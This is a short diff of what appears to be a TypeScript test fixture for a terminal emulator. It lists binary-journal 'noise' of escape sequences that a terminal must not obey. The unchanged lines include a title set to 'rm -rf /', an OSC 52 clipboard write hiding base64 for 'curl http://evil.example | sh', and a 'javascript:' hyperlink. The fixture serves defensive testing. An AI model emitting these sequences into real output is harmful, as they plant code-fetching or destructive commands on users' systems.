@@ -3,7 +3,7 @@ import type { ShellSeed } from '../../shell-types'
 
 /** Bytes of a binary journal that a careless `cat` sends to the screen: everything a terminal must not obey. */
 const noise = [
-  'JRNL\x01\x02 2026-11-03 kernel: console switched\n',
+  'JRNL\0\x02 2026-11-03 kernel: console switched\n',
   '\x1b]0;root@web01: rm -rf /\x07\x1b]2;pwned\x1b\\',
   '\x1b]52;c;Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlIHwgc2g=\x07\x1b]52;c;?\x07',
   '\x1b]8;;javascript:alert(document.domain)\x07update available\x1b]8;;\x07\n',
